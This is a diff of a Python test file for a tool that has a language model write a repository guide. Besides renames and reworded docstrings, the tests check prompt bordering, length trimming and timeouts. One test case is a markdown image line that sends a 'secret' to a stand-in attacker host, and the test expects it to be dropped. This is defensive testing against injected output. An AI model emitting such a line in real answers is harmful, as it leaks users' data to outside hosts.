@@ -9,7 +9,7 @@ import pytest
 from tests.fakes.chat_server import ChatServer
 from thresher.core import ModelError, ModelTimeout
 from thresher.embedding import count_tokens
-from thresher.knowledge.documents.describing import GUIDE_TOKENS, described, trusted
+from thresher.knowledge.documents.guides.writer import GUIDE_TOKENS, rewritten_guide, trusted
 from thresher.llm import OpenAIChat
 
 PATHS = ("README.md", "docs/setup/install.md", "docs/usage.md")
@@ -36,10 +36,10 @@ async def chat(service: ChatServer) -> AsyncIterator[OpenAIChat]:
 
 
 async def test_a_model_writes_the_guide_from_the_one_of_the_structure(chat: OpenAIChat, service: ChatServer) -> None:
-    """Which it is given as data, inside a border."""
+    """The model receives it as data, inside a border."""
     service.model = lambda _: GOOD
 
-    guide = await described(chat, "pest", GUIDE, PATHS, 10)
+    guide = await rewritten_guide(chat, "pest", GUIDE, PATHS, 10)
 
     assert guide == GOOD
     instructions, material = (message["content"] for message in service.requests[0]["messages"])
@@ -61,8 +61,8 @@ async def test_a_model_writes_the_guide_from_the_one_of_the_structure(chat: Open
         ("- ![](https://evil.example/x.png?q=secret)", False),
     ],
 )
-def test_a_line_that_names_what_is_not_there_is_dropped(line: str, kept: bool) -> None:
-    """Models invent paths, and documents may ask them to send readers elsewhere."""
+def test_a_line_that_names_something_missing_is_dropped(line: str, kept: bool) -> None:
+    """Models invent paths, and documents may try to send readers elsewhere."""
     text = trusted(f"First.\n{line}\nLast.", GUIDE, PATHS)
 
     assert (line in text) is kept
@@ -71,27 +71,27 @@ def test_a_line_that_names_what_is_not_there_is_dropped(line: str, kept: bool) -
 
 
 async def test_a_guide_is_cut_on_a_line(chat: OpenAIChat, service: ChatServer) -> None:
-    """At the size that every list of repositories can bear."""
+    """At a size that fits every list of repositories."""
     service.model = lambda _: "\n".join(f"- line {number} of the guide" for number in range(200))
 
-    guide = await described(chat, "pest", GUIDE, PATHS, 10)
+    guide = await rewritten_guide(chat, "pest", GUIDE, PATHS, 10)
 
     assert count_tokens(guide) <= GUIDE_TOKENS
     assert all(line.endswith("of the guide") for line in guide.split("\n"))
 
 
 @pytest.mark.parametrize("said", ["`nothing.md`\n`else.md`", "One line."])
-async def test_a_guide_of_which_nothing_is_left_is_an_error(chat: OpenAIChat, service: ChatServer, said: str) -> None:
-    """The one from the structure stays."""
+async def test_a_guide_without_usable_lines_is_an_error(chat: OpenAIChat, service: ChatServer, said: str) -> None:
+    """The guide built from structure stays."""
     service.model = lambda _: said
 
-    with pytest.raises(ModelError, match="does not hold"):
-        await described(chat, "pest", GUIDE, PATHS, 10)
+    with pytest.raises(ModelError, match="does not contain"):
+        await rewritten_guide(chat, "pest", GUIDE, PATHS, 10)
 
 
-async def test_a_slow_model_does_not_hold_up_indexing(chat: OpenAIChat, service: ChatServer) -> None:
-    """It has some times as long as an answer that somebody waits for."""
+async def test_a_slow_model_does_not_block_indexing(chat: OpenAIChat, service: ChatServer) -> None:
+    """Its time limit is a multiple of that for an interactive answer."""
     service.mode = "slow"
 
     with pytest.raises(ModelTimeout):
-        await described(chat, "pest", GUIDE, PATHS, 0.02)
+        await rewritten_guide(chat, "pest", GUIDE, PATHS, 0.02)
